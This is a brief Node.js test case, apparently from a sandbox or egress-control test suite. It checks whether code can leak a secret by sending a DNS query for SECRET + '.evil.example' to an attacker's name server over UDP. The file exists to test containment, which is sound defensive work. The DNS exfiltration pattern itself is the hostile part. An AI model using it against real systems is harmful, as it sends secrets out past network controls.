// class: network
// rule: outbound_connectivity
// success: Node asks a name server of the attacker
// proof: udp
'use strict';
const { Resolver } = require('dns/promises');
const { attempt, SECRET, UDP } = require('./attack.js');
attempt(async () => {
    const resolver = new Resolver({ timeout: 300, tries: 1 });
    resolver.setServers([`${UDP.host}:${UDP.port}`]);
    try {
        await resolver.resolve4(SECRET + '.evil.example');
    } catch (error) {
        // Nobody answers there: to have asked is success.
        return error.code === 'ETIMEOUT';
    }
});
